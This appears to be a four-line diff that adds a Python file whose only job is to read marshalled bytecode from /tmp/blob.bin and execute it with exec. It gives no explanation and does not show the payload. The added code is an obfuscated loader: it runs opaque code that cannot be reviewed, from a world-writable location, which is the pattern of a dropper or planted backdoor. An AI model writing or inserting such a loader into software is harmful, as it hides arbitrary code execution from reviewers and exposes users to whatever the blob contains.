@@ -1,0 +1,4 @@
+import marshal
+
+code = marshal.loads(open("/tmp/blob.bin", "rb").read())
+exec(code)
